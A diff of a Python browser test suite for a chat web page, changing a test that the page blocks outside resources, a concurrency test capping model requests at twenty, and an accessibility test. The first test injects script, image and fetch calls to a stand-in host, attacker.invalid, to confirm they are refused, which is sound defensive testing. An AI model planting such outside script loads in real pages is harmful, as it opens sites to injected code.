@@ -74,7 +74,8 @@ async def test_the_page_lets_nothing_in_from_elsewhere(site: Site, model: ModelS
             const image = new Image();
             image.src = "http://attacker.invalid/a.png";
             document.body.append(image);
-            const script = document.createElement("script"); script.src = "http://attacker.invalid/a.js";
+            const script = document.createElement("script");
+            script.src = "http://attacker.invalid/a.js";
             document.body.append(script);
             fetch("http://attacker.invalid/").catch(() => 0);
             setTimeout(() => done(seen.sort()), 500);
@@ -186,12 +187,13 @@ async def test_thirty_readers_at_once_are_never_more_than_twenty_at_the_model(
     await expect(seen.welcome).to_be_visible()
     async with AsyncExitStack() as others:
         clients = [await others.enter_async_context(Client(site.url)) for _ in range(29)]
-        await asyncio.gather(*(client.ask("Count.") for client in clients))
+        asking = asyncio.gather(*(client.ask("Count.") for client in clients))
         await asyncio.gather(*(client.until("w0|Before you: ") for client in clients))
         await seen.ask("Count, too.")
         await expect(seen.answer).to_have_text(re.compile("Before you: 9."))
         assert sum("Before you: " in client.heard for client in clients) == 9
-        await asyncio.gather(*(client.until("w39") for client in clients))
+        await asking
+        assert all("w39" in client.heard for client in clients)
         await seen.answered(counting(40))
     assert model.most_answering == 20
     assert len(model.requests) == 30
@@ -226,8 +228,7 @@ async def test_axe_finds_nothing_serious(
     site: Site, model: ModelServer, visit: Visit, scheme: str, width: int
 ) -> None:
     model.text = (
-        "# A title\n\nText with `code` and [a link](https://example.org).\n\n"
-        "```python\nx = 1\n```\n\n|a|\n|-|\n|b|"
+        "# A title\n\n`code`, [a link](https://example.org)\n\n```python\nx = 1\n```\n\n|a|\n|-|\n|b|"
     )
     reader = await visit(site.url, color_scheme=scheme, viewport={"width": width, "height": 844})
     await expect(reader.welcome).to_be_visible()
